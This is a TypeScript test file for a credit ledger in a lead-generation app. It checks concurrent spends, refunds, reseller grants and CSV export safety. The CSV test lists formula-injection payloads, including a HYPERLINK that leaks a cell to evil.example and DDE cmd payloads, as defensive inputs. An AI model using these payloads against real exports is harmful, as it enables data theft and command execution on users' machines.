import { grantCredits, spendCredits } from '../src/credits/ledger';
import { apolloSearchPerson } from './fixtures/leadVendors/apollo';
import { bearer, createTestApp, type TestContext } from './helpers';
import { makeAccount } from './security/accounts';
import { installApolloPeople } from './support/apolloPeople';

/** Credit safety: concurrent spends never overspend, the ledger always explains the wallet, CSV cells are inert. */
let ctx: TestContext;
// Demo data is free (ADR 017): these tests charge people look-ups, so people are served by Apollo (its local fake).
let apollo: Awaited<ReturnType<typeof installApolloPeople>>;
beforeAll(async () => {
  apollo = await installApolloPeople(['people']);
  ctx = await createTestApp();
}, 180_000);
afterAll(async () => {
  await apollo?.close();
  await ctx?.close();
});

/** Every wallet equals the sum of its ledger rows, bucket by bucket, and none is negative. */
async function ledgerMismatches(): Promise<unknown[]> {
  const { rows } = await ctx.db.query(
    `SELECT w.user_id, w.monthly, w.additional, w.rolled_over, l.monthly AS l_monthly, l.additional AS l_additional, l.rolled_over AS l_rolled_over
       FROM credit_wallets w
       LEFT JOIN (SELECT user_id,
                         COALESCE(sum(delta) FILTER (WHERE bucket = 'monthly'), 0)::int AS monthly,
                         COALESCE(sum(delta) FILTER (WHERE bucket = 'additional'), 0)::int AS additional,
                         COALESCE(sum(delta) FILTER (WHERE bucket = 'rolled_over'), 0)::int AS rolled_over
                    FROM credit_ledger GROUP BY user_id) l ON l.user_id = w.user_id
      WHERE w.monthly < 0 OR w.additional < 0 OR w.rolled_over < 0
         OR w.monthly <> COALESCE(l.monthly, 0) OR w.additional <> COALESCE(l.additional, 0) OR w.rolled_over <> COALESCE(l.rolled_over, 0)`,
  );
  return rows;
}

const total = async (userId: number) =>
  (
    await ctx.db.query<{ n: number }>(
      'SELECT (monthly + additional + rolled_over)::int AS n FROM credit_wallets WHERE user_id = $1',
      [userId],
    )
  ).rows[0]!.n;

test('the seeded ledger explains every wallet', async () => {
  expect(await ledgerMismatches()).toEqual([]);
});

test('50 concurrent spends of 1 credit against 30 credits: exactly 30 succeed, the wallet ends at 0, never below', async () => {
  const user = await makeAccount(ctx, {
    email: 'spender@example.com',
    userType: 'customer',
    modules: ['leads'],
    wallet: 20,
  });
  const now = ctx.clock.now();
  await ctx.db.transaction((tx) => grantCredits(tx, user.id, 7, 'additional', 'Credit purchase', { now }));
  await ctx.db.transaction((tx) => grantCredits(tx, user.id, 3, 'rolled_over', 'Rolled over', { now }));
  expect(await total(user.id)).toBe(30);
  const outcomes = await Promise.all(
    Array.from({ length: 50 }, (_, i) =>
      ctx.db.transaction((tx) => spendCredits(tx, user.id, 1, `concurrent:${i}`, { now })),
    ),
  );
  expect(outcomes.filter(Boolean)).toHaveLength(30);
  expect(await total(user.id)).toBe(0);
  // Spent monthly first, then additional, then rolled over: one ledger row per bucket touched.
  const { rows } = await ctx.db.query<{ bucket: string; n: number }>(
    "SELECT bucket, count(*)::int AS n FROM credit_ledger WHERE user_id = $1 AND reason LIKE 'concurrent:%' GROUP BY bucket ORDER BY bucket",
    [user.id],
  );
  expect(rows).toEqual([
    { bucket: 'additional', n: 7 },
    { bucket: 'monthly', n: 20 },
    { bucket: 'rolled_over', n: 3 },
  ]);
  expect(await ledgerMismatches()).toEqual([]);
});

test('50 concurrent uneven spends (1–7 credits) never overspend', async () => {
  const user = await makeAccount(ctx, {
    email: 'uneven@example.com',
    userType: 'customer',
    modules: ['leads'],
    wallet: 100,
  });
  const amounts = Array.from({ length: 50 }, (_, i) => (i % 7) + 1);
  const outcomes = await Promise.all(
    amounts.map((amount, i) => ctx.db.transaction((tx) => spendCredits(tx, user.id, amount, `uneven:${i}`))),
  );
  const spent = amounts.filter((_, i) => outcomes[i]).reduce((a, b) => a + b, 0);
  expect(spent).toBeLessThanOrEqual(100);
  expect(await total(user.id)).toBe(100 - spent);
  // What is left is less than the smallest refused spend.
  const refused = amounts.filter((_, i) => !outcomes[i]);
  if (refused.length) expect(100 - spent).toBeLessThan(Math.min(...refused));
  expect(await ledgerMismatches()).toEqual([]);
});

test('50 concurrent paid enrichments over HTTP: charges match the wallet, which never goes negative', async () => {
  const user = await makeAccount(ctx, {
    email: 'http-spender@example.com',
    userType: 'customer',
    modules: ['leads'],
    wallet: 10,
  });
  const created = await ctx.app.inject({
    method: 'POST',
    url: '/api/campaigns',
    headers: user.headers,
    payload: { name: 'Phones', list_type: 'people' },
  });
  const listId = created.json<{ campaign: { id: number } }>().campaign.id;
  const ids: number[] = [];
  for (let i = 0; i < 50; i++) {
    const { rows } = await ctx.db.query<{ id: string }>(
      "INSERT INTO campaign_results (campaign_id, user_id, record_key, name, company, email, email_status, data) VALUES ($1, $2, $3, $4, 'Acme', $5, 'found', '{}'::jsonb) RETURNING id",
      [listId, user.id, `apollo:${apolloSearchPerson(i).id}`, `Person ${i}`, `person${i}@example.com`],
    );
    ids.push(Number(rows[0]!.id));
  }
  const before = await total(user.id);
  const answers = await Promise.all(
    ids.map((id) =>
      ctx.app.inject({
        method: 'POST',
        url: `/api/people-results/${listId}/get-phones`,
        headers: bearer(user.headers.authorization!.slice(7)),
        payload: { ids: [id] },
      }),
    ),
  );
  for (const a of answers) expect(a.statusCode).toBe(202);
  // Each request is a queued job; the queue runs them all.
  await ctx.app.queue.drain();
  const jobs = (
    await ctx.db.query<{ charged: number; stopped: number }>(
      "SELECT COALESCE(sum(credits_charged), 0)::int AS charged, count(*) FILTER (WHERE status = 'stopped')::int AS stopped FROM enrichment_jobs WHERE campaign_id = $1",
      [listId],
    )
  ).rows[0]!;
  const charged = jobs.charged;
  const after = await total(user.id);
  expect(after).toBeGreaterThanOrEqual(0);
  expect(before - after).toBe(charged);
  expect(charged).toBeLessThanOrEqual(before);
  // Apollo has a phone for every other person (25 of 50): the wallet of 10 runs dry under the load.
  expect(charged).toBe(before);
  expect(jobs.stopped).toBeGreaterThan(0);
  expect(await ledgerMismatches()).toEqual([]);
});

test('CSV exports neutralise formula cells', async () => {
  const user = await makeAccount(ctx, {
    email: 'csv@example.com',
    userType: 'customer',
    modules: ['leads'],
    wallet: 0,
  });
  const created = await ctx.app.inject({
    method: 'POST',
    url: '/api/campaigns',
    headers: user.headers,
    payload: { name: 'Export', list_type: 'company' },
  });
  const listId = created.json<{ campaign: { id: number } }>().campaign.id;
  const hostile = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(1,1)',
    '\t=1+1',
    '\r=1+1',
    "=cmd|' /C notepad'!'A1'",
  ];
  for (const [i, name] of hostile.entries()) {
    await ctx.db.query(
      "INSERT INTO campaign_results (campaign_id, user_id, name, company, city, email_status) VALUES ($1, $2, $3, $3, $4, 'found')",
      [listId, user.id, name, `=CITY${i}()`],
    );
  }
  const csv = await ctx.app.inject({
    method: 'POST',
    url: `/api/company-results/${listId}/csv`,
    headers: user.headers,
    payload: {},
  });
  expect(csv.statusCode).toBe(200);
  expect(String(csv.headers['content-type'])).toMatch(/text\/csv/);
  // Parse RFC 4180 cells; no cell may start with a formula character.
  const cells: string[] = [];
  const re = /(?:^|,)(?:"((?:[^"]|"")*)"|([^,\r\n]*))/g;
  for (const line of csv.body.split(/\r\n(?=(?:[^"]*"[^"]*")*[^"]*$)/)) {
    for (const m of line.matchAll(re)) cells.push((m[1] ?? m[2] ?? '').replace(/""/g, '"'));
  }
  for (const value of hostile) expect(cells).toContain(`'${value}`);
  expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
});

describe('refunds', () => {
  test('a refund cannot be applied twice, not even by concurrent requests or after an older payment', async () => {
    const reseller = await makeAccount(ctx, {
      email: 'refund-reseller@example.com',
      userType: 'reseller',
      modules: ['whitelabel', 'leads'],
    });
    const pkg = await ctx.app.inject({
      method: 'POST',
      url: '/api/whitelabel/packages',
      headers: reseller.headers,
      payload: { name: 'Refundable', monthly_price_cents: 5000, credit_price_cents: 20 },
    });
    expect(pkg.statusCode).toBe(201);
    const packageId = pkg.json<{ data: { id: number } }>().data.id;
    const sub = await ctx.app.inject({
      method: 'POST',
      url: '/api/whitelabel/subscriptions',
      headers: reseller.headers,
      payload: {
        customer_name: 'Refund Customer',
        email: 'refund-customer@example.com',
        username: 'refundcustomer',
        package_id: packageId,
      },
    });
    expect(sub.statusCode).toBe(201);
    const subscriptionId = sub.json<{ data: { id: number } }>().data.id;
    // Two paid periods: the older one must stay paid whatever happens to the refund.
    for (const ref of ['ch_old', 'ch_last']) {
      await ctx.db.query(
        "INSERT INTO whitelabel_payments (owner_id, subscription_id, amount_cents, kind, status, provider, provider_ref, created_at) VALUES ($1, $2, 5000, 'charge', 'succeeded', 'sandbox', $3, $4)",
        [reseller.id, subscriptionId, ref, ctx.clock.now()],
      );
    }
    const refunds = await Promise.all(
      Array.from({ length: 10 }, () =>
        ctx.app.inject({
          method: 'POST',
          url: `/api/whitelabel/subscriptions/${subscriptionId}/refund`,
          headers: reseller.headers,
        }),
      ),
    );
    for (const r of refunds) expect(r.statusCode).toBeLessThan(500);
    expect(refunds.filter((r) => r.statusCode === 200)).toHaveLength(1);
    const again = await ctx.app.inject({
      method: 'POST',
      url: `/api/whitelabel/subscriptions/${subscriptionId}/refund`,
      headers: reseller.headers,
    });
    expect(again.statusCode).toBe(422);
    const { rows } = await ctx.db.query<{ provider_ref: string; status: string }>(
      'SELECT provider_ref, status FROM whitelabel_payments WHERE subscription_id = $1 ORDER BY id',
      [subscriptionId],
    );
    expect(rows).toEqual([
      { provider_ref: 'ch_old', status: 'succeeded' },
      { provider_ref: 'ch_last', status: 'refunded' },
    ]);
  });
});

describe('reseller grants (issue 24 item 13: no credits from nothing)', () => {
  test("concurrent grants of additional credits are paid from the reseller's wallet and never overspend it", async () => {
    const reseller = await makeAccount(ctx, {
      email: 'granting-reseller@example.com',
      userType: 'reseller',
      modules: ['whitelabel', 'leads'],
      wallet: 100,
    });
    const pkg = await ctx.app.inject({
      method: 'POST',
      url: '/api/whitelabel/packages',
      headers: reseller.headers,
      payload: { name: 'Grants', monthly_price_cents: 1000, credit_price_cents: 20 },
    });
    const packageId = pkg.json<{ data: { id: number } }>().data.id;
    const grants = await Promise.all(
      Array.from({ length: 6 }, (_, i) =>
        ctx.app.inject({
          method: 'POST',
          url: '/api/whitelabel/subscriptions',
          headers: reseller.headers,
          payload: {
            customer_name: `Granted ${i}`,
            email: `granted-${i}@example.com`,
            username: `granted${i}`,
            package_id: packageId,
            additional_credits: 30,
          },
        }),
      ),
    );
    const ok = grants.filter((g) => g.statusCode === 201);
    expect(ok).toHaveLength(3);
    for (const g of grants.filter((r) => r.statusCode !== 201))
      expect(g.json()).toMatchObject({ code: 'whitelabel.credits_insufficient', field: 'additional_credits' });
    expect(await total(reseller.id)).toBe(10);
    const given = await ctx.db.query<{ n: number }>(
      'SELECT COALESCE(sum(w.additional), 0)::int AS n FROM credit_wallets w JOIN users u ON u.id = w.user_id WHERE u.parent_id = $1',
      [reseller.id],
    );
    expect(given.rows[0]!.n).toBe(90);
    // A refused grant left no account behind.
    expect((await ctx.db.query('SELECT 1 FROM users WHERE parent_id = $1', [reseller.id])).rows).toHaveLength(3);
    // Toggling a grant down and up again costs the reseller each time it goes up.
    const subId = ok[0]!.json<{ data: { id: number } }>().data.id;
    const edit = (additional_credits: number) =>
      ctx.app.inject({
        method: 'PUT',
        url: `/api/whitelabel/subscriptions/${subId}`,
        headers: reseller.headers,
        payload: { customer_name: 'Granted', username: 'granted-x', package_id: packageId, additional_credits },
      });
    expect((await edit(0)).statusCode).toBe(200);
    expect(await total(reseller.id)).toBe(40);
    expect((await edit(1_000_000)).statusCode).toBe(422);
    expect((await edit(40)).statusCode).toBe(200);
    expect(await total(reseller.id)).toBe(0);
    expect(await ledgerMismatches()).toEqual([]);
  });
});
